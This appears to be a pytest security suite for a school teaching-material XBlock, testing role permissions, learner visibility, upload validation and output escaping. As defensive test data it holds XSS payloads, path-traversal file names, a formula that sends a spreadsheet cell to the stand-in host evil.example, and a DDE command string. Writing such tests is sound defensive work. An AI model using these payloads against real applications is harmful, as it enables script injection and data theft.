"""Security of approved_material through its real handlers and views in the workbench runtime.

1. The permission matrix: every handler x every role, with the material in the state where the
   action is possible. Forbidden calls get 403 (404 for a learner asking an unapproved file) and
   change nothing; allowed calls succeed.
2. Learners never see unapproved content, whatever handler they call.
3. Uploads: type checked from the bytes, size limited, nothing stored when refused.
4. XSS: hostile text in every field and in decision comments never becomes live markup.
"""
import csv
import io
import json
import os
import re
from html.parser import HTMLParser

import pytest
from django.conf import settings as django_settings
from webob import Request

from helpers import CHECKED, block_as, call, decide, render
from vn_online_teaching.core.models import AuditEntry, RoleAssignment
from vn_online_teaching.demo.people import ORG
from vn_online_teaching.material.content import OWN_FIELDS
from vn_online_teaching.material.models import ApprovedVersion, Attachment, MaterialDecision, MaterialState

SECRET = "x² − 5x + 6 = 0"          # in the draft's body
CHILD_TEXT = "Bài tập"              # in the draft's child block
PDF = b"%PDF-1.4\n% " + SECRET.encode("utf-8") + b"\n1 0 obj<<>>endobj\n%%EOF\n"
PDF2 = b"%PDF-1.4\n% phu luc\n%%EOF\n"
OTHERS = ["hs_anh", "gv_nam", "tt_hoa", "ht_hung", "vt_thu", "none"]
STAFF = {"gv_lan", "gv_nam", "tt_minh", "tt_hoa", "ht_hung", "vt_thu"}
LEARNERS = {"hs_anh", "none"}

FORM = {
    "display_name": "Phương trình bậc hai (bản sửa)", "kind": "question_bank", "subject": "Toán", "grade": "10",
    "lesson": "Bài 3", "author_name": "Nguyễn Thị Lan", "source": "SGK", "licence": "CC BY 4.0",
    "body": "<p>Nội dung đã sửa</p>", "links": [], "attachments": [],
}

WALKS = {
    "draft": [],
    "submitted": [("gv_lan", "submit")],
    "passed": [("gv_lan", "submit"), ("tt_minh", "pass")],
    "approved": [("gv_lan", "submit"), ("tt_minh", "pass"), ("ht_hung", "approve")],
    "returned": [("gv_lan", "submit"), ("tt_minh", "return_review")],
    "revoked": [("gv_lan", "submit"), ("tt_minh", "pass"), ("ht_hung", "approve"), ("ht_hung", "revoke")],
}
NEEDS_COMMENT = {"return_review", "return_approval", "revoke"}


# ------------------------------------------------------------------------------------ helpers

def act(usage, user, action, comment=None):
    if comment is None:
        comment = "Cần bổ sung ví dụ." if action in NEEDS_COMMENT else ""
    return decide(usage, user, action, comment=comment, checklist=CHECKED)


def walk(usage, state):
    for user, action in WALKS[state]:
        status, body = act(usage, user, action)
        assert status == 200, (user, action, body)
    assert MaterialState.objects.get(usage_key=str(usage)).state == state


def upload(usage, username, name, data, **post):
    """POST a multipart upload to ``upload_attachment`` as ``username``; (status, parsed body)."""
    block = block_as(usage, username)
    request = Request.blank("/", POST=dict({"file": (name, data)}, **post))
    response = block.runtime.handle(block, "upload_attachment", request, "")
    try:
        return response.status_code, json.loads(response.body)
    except ValueError:
        return response.status_code, response.body


def media_files():
    root = os.path.join(django_settings.STORAGES["default"]["OPTIONS"]["location"], "vn_online_teaching")
    out = set()
    for folder, _dirs, files in os.walk(root):
        out.update(os.path.join(folder, f) for f in files)
    return out


def snapshot(usage):
    """Everything a request could change: records, the audit log, files and the block's fields."""
    block = block_as(usage, "gv_lan")
    fields = {name: getattr(block, name) for name in OWN_FIELDS}
    fields["children"] = [str(c) for c in block.children]
    return {
        "fields": fields,
        "states": list(MaterialState.objects.order_by("pk").values()),
        "decisions": MaterialDecision.objects.count(),
        "versions": ApprovedVersion.objects.count(),
        "audit": AuditEntry.objects.count(),
        "attachments": list(Attachment.objects.order_by("pk").values_list("usage_key", "sha256")),
        "files": media_files(),
    }


def text_of(body):
    if isinstance(body, (dict, list)):
        return json.dumps(body, ensure_ascii=False)
    return body.decode("utf-8", "replace") if isinstance(body, bytes) else str(body)


# ------------------------------------------------------------------------------------ 1. matrix

# handler case → (state where it is possible, the legitimate actor)
CASES = {
    "decide:submit": ("draft", "gv_lan"),
    "decide:withdraw": ("submitted", "gv_lan"),
    "decide:pass": ("submitted", "tt_minh"),
    "decide:return_review": ("submitted", "tt_minh"),
    "decide:approve": ("passed", "ht_hung"),
    "decide:return_approval": ("passed", "ht_hung"),
    "decide:revoke": ("approved", "ht_hung"),
    "studio_submit": ("draft", "gv_lan"),
    "upload_attachment": ("draft", "gv_lan"),
    "attachment": ("draft", "gv_lan"),
    "register_export": ("approved", "vt_thu"),
    "register_export:teachers": ("approved", "vt_thu"),
}


def expected_status(case, user, legit):
    """What the rules (the actions each feature declares in its access.py) say this user gets."""
    if case == "attachment":  # every staff role may read a file under review; learners: not found
        return 200 if user in STAFF else 404
    if case == "register_export":  # material.register: teacher, head, principal, records officer
        return 200 if user in STAFF else 403
    if case == "register_export:teachers":  # material.teacher_counts: head, principal, records officer
        return 200 if user in {"tt_minh", "tt_hoa", "ht_hung", "vt_thu"} else 403
    return 200 if user == legit else 403


def _cells():
    for case, (state, legit) in CASES.items():
        for user in [legit] + [u for u in OTHERS if u != legit]:
            label = f"{user}(legit)" if user == legit else user
            yield pytest.param(case, user, expected_status(case, user, legit), id=f"{case}-{state}-{label}")


def perform(case, usage, user, sha):
    if case.startswith("decide:"):
        return act(usage, user, case.split(":", 1)[1])
    if case == "studio_submit":
        return call(usage, user, "studio_submit", FORM)
    if case == "upload_attachment":
        return upload(usage, user, "phu-luc.pdf", PDF2)
    if case == "attachment":
        return call(usage, user, "attachment", method="GET", suffix=sha)
    if case == "register_export":
        return call(usage, user, "register_export", method="GET")
    if case == "register_export:teachers":
        return call(usage, user, "register_export", method="GET", query="report=teachers&scope=school")
    raise AssertionError(case)


@pytest.mark.parametrize("case, user, status", list(_cells()))
def test_permission_matrix(draft, case, user, status):
    state, _legit = CASES[case]
    status_up, item = upload(draft, "gv_lan", "de-cuong.pdf", PDF)  # the teacher attaches a file
    assert status_up == 200
    walk(draft, state)
    before = snapshot(draft)

    got, body = perform(case, draft, user, item["sha256"])

    assert got == status, (case, user, body)
    after = snapshot(draft)
    if status != 200:
        assert isinstance(body, dict) and body["error"] == ("not_found" if status == 404 else "forbidden")
        assert body["message"]
        assert after == before, "a refused request changed something"
        return
    if case.startswith("decide:"):
        action = case.split(":", 1)[1]
        assert after["decisions"] == before["decisions"] + 1
        assert after["audit"] == before["audit"] + 1
        last = MaterialDecision.objects.order_by("-pk").first()
        assert (last.action, last.actor_key) == (action, user)
        assert after["fields"] == before["fields"]  # a decision never edits the content
    elif case == "studio_submit":
        assert after["fields"]["display_name"] == FORM["display_name"]
        assert after["audit"] == before["audit"] + 1
        assert after["decisions"] == before["decisions"]
    elif case == "upload_attachment":
        assert len(after["attachments"]) == len(before["attachments"]) + 1
        assert len(after["fields"]["attachments"]) == len(before["fields"]["attachments"]) + 1
    else:  # downloads and exports only read
        assert after == before
        if case == "attachment":
            assert body == PDF


def test_matrix_covers_every_handler():
    """A new handler must be added to the matrix above."""
    from vn_online_teaching.material.block import ApprovedMaterialBlock

    handlers = {name for name in dir(ApprovedMaterialBlock)
                if getattr(getattr(ApprovedMaterialBlock, name, None), "_is_xblock_handler", False)}
    covered = {c.split(":", 1)[0] for c in CASES}
    assert handlers <= covered, handlers - covered
    from vn_online_teaching.material.workflow import TRANSITIONS

    assert {f"decide:{a}" for a in TRANSITIONS} <= set(CASES)


@pytest.mark.parametrize("user", ["hs_anh", "none", "gv_nam"])
def test_refused_decision_on_a_material_nobody_opened_writes_nothing(draft, user):
    """A refused request must not write anything, not even the material's record
    (docs/audit-policy.md, "What is not audited": a refused request changes nothing). Here nobody
    opened the material yet, so it has no record."""
    assert not MaterialState.objects.exists()
    status, body = act(draft, user, "submit")
    assert status == 403, body
    assert not MaterialState.objects.exists(), "a refused (even anonymous) request created a MaterialState row"


def test_withdraw_is_only_for_the_author_even_among_teachers_of_the_subject(draft):
    walk(draft, "submitted")
    before = snapshot(draft)
    assert act(draft, "tt_minh", "withdraw")[0] == 403  # teaches Toán too, but did not submit
    assert snapshot(draft) == before


def test_request_id_of_someone_else_is_not_replayed(draft):
    """A retried request id returns the earlier decision only to the person who made it."""
    walk(draft, "submitted")
    status, body = decide(draft, "tt_minh", "pass", checklist=CHECKED, request_id="click-1")
    assert status == 200
    before = snapshot(draft)
    for user in ("hs_anh", "tt_hoa", "ht_hung"):
        status, body = decide(draft, user, "pass", checklist=CHECKED, request_id="click-1")
        assert status in (403, 409) and "decision" not in body
    assert snapshot(draft) == before


def test_a_forbidden_user_gets_403_before_any_state_or_replay_check(draft):
    """Permission is checked first: someone who may not take the action learns nothing about the
    material's state or about other people's request ids (not 409 "already used" or "not
    possible now"), and nothing is written."""
    walk(draft, "submitted")
    status, _body = decide(draft, "tt_minh", "pass", checklist=CHECKED, request_id="click-1")
    assert status == 200
    before = snapshot(draft)
    for user in ("hs_anh", "none", "gv_nam", "tt_hoa", "ht_hung", "vt_thu"):
        status, body = decide(draft, user, "pass", checklist=CHECKED, request_id="click-1")
        assert (status, body.get("error")) == (403, "forbidden"), (user, body)
    for user, action in (("hs_anh", "approve"), ("gv_nam", "revoke"), ("tt_hoa", "pass"), ("vt_thu", "return_review")):
        status, body = act(draft, user, action)  # each action is impossible from "passed" or not theirs
        assert (status, body.get("error")) == (403, "forbidden"), (user, action, body)
    assert snapshot(draft) == before


# ------------------------------------------------------------------------------------ 2. learners

def student_calls(usage, user, sha):
    """Every handler a learner can reach, with plausible input; [(what, status, body)]."""
    out = []
    for action in ("submit", "withdraw", "pass", "return_review", "approve", "return_approval", "revoke"):
        out.append((f"decide:{action}",) + act(usage, user, action, comment="ok"))
    out.append(("studio_submit",) + call(usage, user, "studio_submit", FORM))
    out.append(("upload_attachment",) + upload(usage, user, "bai-lam.pdf", PDF2))
    out.append(("attachment",) + call(usage, user, "attachment", method="GET", suffix=sha))
    out.append(("attachment:bad",) + call(usage, user, "attachment", method="GET", suffix="../" + sha))
    for suffix, query in (("", ""), ("xlsx", ""), ("", "report=teachers&scope=school"), ("", "scope=school")):
        out.append((f"register_export:{suffix}:{query}",) + call(usage, user, "register_export", method="GET",
                                                                   suffix=suffix, query=query))
    return out


@pytest.mark.parametrize("user", ["hs_anh", "none"])
@pytest.mark.parametrize("state", ["draft", "submitted", "passed", "returned", "revoked"])
def test_learner_never_sees_unapproved_content(draft, state, user):
    status, item = upload(draft, "gv_lan", "de-cuong.pdf", PDF)
    assert status == 200
    walk(draft, state)
    before = snapshot(draft)

    html = render(draft, user)
    assert SECRET not in html and CHILD_TEXT not in html
    assert "vnot-unavailable" in html
    assert "de-cuong.pdf" not in html

    for what, status, body in student_calls(draft, user, item["sha256"]):
        assert status in (403, 404, 405), (what, status)
        text = text_of(body)
        assert SECRET not in text and CHILD_TEXT not in text and "de-cuong" not in text, what
    assert snapshot(draft) == before


def test_learner_never_sees_changes_made_after_approval(approved):
    """After approval the teacher edits text, child and attachments: a learner keeps the approved
    version through every view and handler."""
    new_secret = "Đề kiểm tra chưa duyệt 2x + 1"
    teacher = block_as(approved, "gv_lan")
    teacher.body = f"<p>{new_secret}</p>"
    teacher.save()
    child = teacher.runtime.get_block(teacher.children[0])
    child.content = "<p>Đáp án bí mật chưa duyệt</p>"
    child.save()
    status, item = upload(approved, "gv_lan", "dap-an.pdf", b"%PDF-1.4 " + new_secret.encode())
    assert status == 200
    html = render(approved, "hs_anh")
    assert SECRET in html  # the approved snapshot
    assert new_secret not in html and "Đáp án bí mật" not in html and "dap-an.pdf" not in html
    for what, status, body in student_calls(approved, "hs_anh", item["sha256"]):
        text = text_of(body)
        assert new_secret not in text and "Đáp án bí mật" not in text, what
        assert status in (403, 404, 405), (what, status)


def test_attachment_only_after_approval_and_only_approved_files(draft):
    status, item = upload(draft, "gv_lan", "de-cuong.pdf", PDF)
    assert status == 200 and item["mime"] == "application/pdf"
    sha = item["sha256"]
    for state_steps in (WALKS["draft"], [("gv_lan", "submit")], [("tt_minh", "pass")]):
        for user, action in state_steps:
            assert act(draft, user, action)[0] == 200
        status, body = call(draft, "hs_anh", "attachment", method="GET", suffix=sha)
        assert status == 404 and body["error"] == "not_found"
        assert call(draft, "gv_lan", "attachment", method="GET", suffix=sha)[0] == 200
    assert act(draft, "ht_hung", "approve")[0] == 200

    status, data = call(draft, "hs_anh", "attachment", method="GET", suffix=sha)
    assert status == 200 and data == PDF
    block = block_as(draft, "hs_anh")
    response = block.runtime.handle(block, "attachment", Request.blank("/"), sha)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.content_type == "application/pdf"

    # a second file added after approval is not approved: hidden from learners, shown to staff
    status, second = upload(draft, "gv_lan", "phu-luc.pdf", PDF2)
    assert status == 200
    status, body = call(draft, "hs_anh", "attachment", method="GET", suffix=second["sha256"])
    assert status == 404
    assert "phu-luc.pdf" not in render(draft, "hs_anh")
    for staff in ("gv_lan", "ht_hung", "tt_minh", "vt_thu"):
        status, data = call(draft, staff, "attachment", method="GET", suffix=second["sha256"])
        assert status == 200 and data == PDF2, staff
    # the approved one is still there for learners
    assert call(draft, "hs_anh", "attachment", method="GET", suffix=sha)[0] == 200

    # revoking the approval takes the files away from learners again
    assert act(draft, "ht_hung", "revoke")[0] == 200
    assert call(draft, "hs_anh", "attachment", method="GET", suffix=sha)[0] == 404


def test_attachment_of_another_material_is_not_served(draft):
    """Files are looked up per material: a hash from another block gives 404 even to staff."""
    from helpers import scenario_usage

    other = scenario_usage("Học liệu: đã phê duyệt")
    status, item = upload(other, "gv_lan", "khac.pdf", PDF2)
    assert status == 200
    for user in ("gv_lan", "hs_anh", "ht_hung"):
        assert call(draft, user, "attachment", method="GET", suffix=item["sha256"])[0] == 404


# ------------------------------------------------------------------------------------ 3. uploads

BAD_FILES = {
    "exe": ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64),
    "html-as-pdf": ("bai-giang.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    "png-as-pdf": ("hinh.pdf", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32),
    "svg": ("hinh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "html": ("trang.html", b"<html><script>alert(1)</script></html>"),
    "pdf-without-extension": ("de-cuong", PDF),
    "exe-as-docx": ("bai.docx", b"MZ\x90\x00" + b"\x00" * 64),
}


@pytest.mark.parametrize("kind", list(BAD_FILES))
def test_upload_refuses_wrong_type(draft, kind):
    render(draft, "gv_lan")
    before = snapshot(draft)
    name, data = BAD_FILES[kind]
    status, body = upload(draft, "gv_lan", name, data)
    assert status == 400, body
    assert body["error"] == "bad_file_type" and body["message"] and body["field"] == "file"
    assert snapshot(draft) == before, "a refused upload stored something"


def test_upload_refuses_empty_and_missing_file(draft):
    render(draft, "gv_lan")
    before = snapshot(draft)
    status, body = upload(draft, "gv_lan", "trong.pdf", b"")
    assert status == 400 and body["message"]
    block = block_as(draft, "gv_lan")
    response = block.runtime.handle(block, "upload_attachment", Request.blank("/", POST={"other": "x"}), "")
    assert response.status_code == 400 and json.loads(response.body)["error"] == "required"
    response = block.runtime.handle(block, "upload_attachment", Request.blank("/"), "")
    assert response.status_code == 405
    assert snapshot(draft) == before


def small_limit(settings, limit):
    settings.VN_ONLINE_TEACHING = dict(settings.VN_ONLINE_TEACHING, MAX_ATTACHMENT_BYTES=limit)


@pytest.mark.parametrize("size", [2049, 200 * 1024], ids=["just-over", "far-over"])
def test_upload_refuses_too_large(draft, settings, size):
    small_limit(settings, 2048)
    render(draft, "gv_lan")
    before = snapshot(draft)
    data = b"%PDF-1.4\n" + b"0" * (size - 9)
    status, body = upload(draft, "gv_lan", "lon.pdf", data)
    assert status == 413, body
    assert body["error"] == "too_large" and body["message"]
    assert snapshot(draft) == before, "a refused upload stored something"
    # at the limit it is accepted
    status, body = upload(draft, "gv_lan", "vua.pdf", b"%PDF-1.4\n" + b"0" * (2048 - 9))
    assert status == 200, body


def test_too_large_message_names_a_usable_limit(draft, settings):
    """A school may set a limit under 1 MB; the message must not tell teachers "at most 0 MB"."""
    small_limit(settings, 512 * 1024)
    status, body = upload(draft, "gv_lan", "lon.pdf", b"%PDF-1.4\n" + b"0" * (600 * 1024))
    assert status == 413
    assert not re.search(r"\b0 ?MB\b", body["message"]), body["message"]


def test_upload_refuses_more_than_the_allowed_number(draft, settings):
    settings.VN_ONLINE_TEACHING = dict(settings.VN_ONLINE_TEACHING, MAX_ATTACHMENTS=1)
    assert upload(draft, "gv_lan", "a.pdf", PDF)[0] == 200
    before = snapshot(draft)
    status, body = upload(draft, "gv_lan", "b.pdf", PDF2)
    assert status == 400 and body["error"] == "too_many"
    assert snapshot(draft) == before


@pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "..\\..\\windows\\win.pdf", "bell\x07tab\x09.pdf",
                                  "Đề cương <b>bài 3</b>.pdf"])
def test_upload_file_name_is_made_harmless(draft, name):
    status, item = upload(draft, "gv_lan", name, PDF)
    assert status == 200, item
    assert not re.search(r"[\\/\x00-\x1f]", item["name"]), item["name"]
    record = Attachment.objects.get(sha256=item["sha256"])
    assert ".." not in record.storage_name.split("/") and record.storage_name.startswith("vn_online_teaching/")
    block = block_as(draft, "gv_lan")
    response = block.runtime.handle(block, "attachment", Request.blank("/"), item["sha256"])
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r"inline; filename\*=UTF-8''[A-Za-z0-9%._~-]+", disposition), disposition
    html = render(draft, "gv_lan")
    assert "<b>bài 3</b>" not in html


# ------------------------------------------------------------------------------------ 4. XSS

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attr-breakout": '"><img src=x onerror=alert(1)>',
    "js-url": "javascript:alert(1)",
}
# grade holds at most 20 characters: a short payload of the same family
SHORT = {"script": "<script>x</script>", "attr-breakout": '"><svg onload=x>', "js-url": "javascript:alert(1)"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_no_live_markup(html, where=""):
    """No injected script, no event-handler attribute, no javascript: URL in the page."""
    assert "<script>alert" not in html.lower(), where
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        if tag == "script":  # only inert data blocks, never code
            assert dict(attrs).get("type") in ("json/xblock-args", "application/json"), (where, tag, attrs)
        for name, value in attrs:
            assert not name.lower().startswith("on"), (where, tag, attrs)
            if name.lower() in URL_ATTRS and value:
                compact = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not compact.startswith(("javascript:", "vbscript:", "data:text/html")), (where, tag, attrs)


def hostile_form(kind):
    payload = PAYLOADS[kind]
    form = {name: payload for name in ("display_name", "lesson", "author_name", "source", "licence")}
    form.update(
        kind="lecture", grade=SHORT[kind], subject=payload,
        body=f"<p>Mở đầu</p>{payload}<a href=\"javascript:alert(1)\">bấm</a><img src=x onerror=alert(1)>"
             f"<p onclick=\"alert(1)\">đoạn</p>",
        links=[{"title": payload, "url": "https://example.edu.vn/bai-giang", "kind": "video"}],
        attachments=[],
    )
    return form


@pytest.mark.parametrize("kind", list(PAYLOADS))
def test_hostile_text_in_every_field_and_comment_stays_text(draft, kind):
    payload = PAYLOADS[kind]
    # the school has a subject named with the payload; gv_lan teaches it, tt_minh heads it
    for user, role in (("gv_lan", "teacher"), ("tt_minh", "head")):
        RoleAssignment.objects.create(org=ORG, user_key=user, username=user, role=role, subject=payload)
    status, item = upload(draft, "gv_lan", f"{payload}.pdf", PDF)
    assert status == 200
    form = hostile_form(kind)
    form["attachments"] = [item["sha256"]]
    status, body = call(draft, "gv_lan", "studio_submit", form)
    assert status == 200, body
    block = block_as(draft, "gv_lan")
    assert block.display_name == payload  # stored as typed: escaping is the template's job
    assert_no_live_markup(block.body, "stored body")

    # comments: a return with a hostile comment, then the chain to approval with hostile comments
    assert act(draft, "gv_lan", "submit")[0] == 200
    assert act(draft, "tt_minh", "return_review", comment=payload)[0] == 200
    assert act(draft, "gv_lan", "submit")[0] == 200
    assert act(draft, "tt_minh", "pass", comment=payload)[0] == 200

    for user in ("gv_lan", "tt_minh", "ht_hung", "vt_thu"):
        html = render(draft, user)
        assert_no_live_markup(html, f"staff view of {user}")
        if kind == "script":
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, user
        if kind == "attr-breakout":
            assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in html, user
    assert_no_live_markup(render(draft, "gv_lan", "author_view"), "author_view")

    assert act(draft, "ht_hung", "approve", comment=payload)[0] == 200
    html = render(draft, "hs_anh")
    assert "vnot-unavailable" not in html
    assert_no_live_markup(html, "student view")
    if kind == "script":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    staff = render(draft, "ht_hung")
    assert_no_live_markup(staff, "staff view after approval")


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "/relative",
    "ftp://example.edu.vn/a",
])
def test_links_with_unsafe_urls_are_refused(draft, url):
    render(draft, "gv_lan")
    before = snapshot(draft)
    form = dict(FORM, links=[{"title": "Bài giảng", "url": url, "kind": "video"}])
    status, body = call(draft, "gv_lan", "studio_submit", form)
    assert status == 400 and body["error"] == "bad_link" and body["message"]
    assert snapshot(draft) == before


@pytest.mark.parametrize("field, label", [("display_name", "Title"), ("subject", "Subject")])
def test_an_empty_required_field_is_named_by_its_label(draft, field, label):
    """The teacher reads "Title" on the form, so the error names "Title" in their language,
    not the field's programmatic name; the answer's ``field`` keeps the name for the script."""
    from django.utils import translation

    from vn_online_teaching.core.i18n import gettext

    render(draft, "gv_lan")
    before = snapshot(draft)
    with translation.override("vi"):
        status, body = call(draft, "gv_lan", "studio_submit", dict(FORM, **{field: "   "}))
        expected = gettext("The field {field} must not be empty.").format(field=gettext(label))
    assert (status, body["error"], body["field"]) == (400, "required", field)
    assert body["message"] == expected and field not in body["message"]
    assert snapshot(draft) == before


def test_links_imported_with_javascript_url_are_not_rendered_as_links(approved):
    """Content can also arrive without studio_submit (course import of OLX, the XBlock field
    editor). Body HTML is sanitised again at render time; link URLs must be too."""
    teacher = block_as(approved, "gv_lan")
    teacher.links = [{"title": "Bài giảng", "url": "javascript:alert(document.cookie)", "kind": "video"}]
    teacher.save()
    for user in ("gv_lan", "ht_hung"):
        assert_no_live_markup(render(approved, user), f"staff view of {user}")
    # approve it again and look at what learners get
    for user, action in (("gv_lan", "submit"), ("tt_minh", "pass"), ("ht_hung", "approve")):
        assert act(approved, user, action)[0] == 200
    assert_no_live_markup(render(approved, "hs_anh"), "student view")


def test_studio_editor_init_arguments_cannot_close_their_script(draft):
    """The Studio editor hands links and attachments to its JavaScript as init arguments; a title
    containing ``</script>`` must not end that script element and start live markup."""
    breakout = "</script><img src=x onerror=alert(1)>"
    form = dict(FORM, links=[{"title": breakout, "url": "https://example.edu.vn/a", "kind": "video"}])
    assert call(draft, "gv_lan", "studio_submit", form)[0] == 200
    status, _item = upload(draft, "gv_lan", f"{breakout}.pdf", PDF)
    assert status == 200
    html = render(draft, "gv_lan", "studio_view")
    assert_no_live_markup(html, "studio_view")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_register_export_does_not_carry_spreadsheet_formulas(draft, fmt):
    """Titles and names typed by teachers end up in the register the records officer opens in
    Excel: a cell starting with = + - @ must stay text, not become a formula (CWE-1236)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    form = dict(FORM, display_name=formula, lesson="+cmd|' /C calc'!A0", author_name="@SUM(1+1)")
    assert call(draft, "gv_lan", "studio_submit", form)[0] == 200
    render(draft, "gv_lan")
    status, data = call(draft, "vt_thu", "register_export", method="GET", suffix=fmt if fmt == "xlsx" else "")
    assert status == 200
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
        assert any("HYPERLINK" in c for c in cells)
        dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert not dangerous, dangerous
    else:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(data))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert any("HYPERLINK" in str(c.value) for c in cells)
        formulas = [c.value for c in cells if c.data_type == "f"]
        assert not formulas, f"the XLSX register contains formula cells: {formulas}"
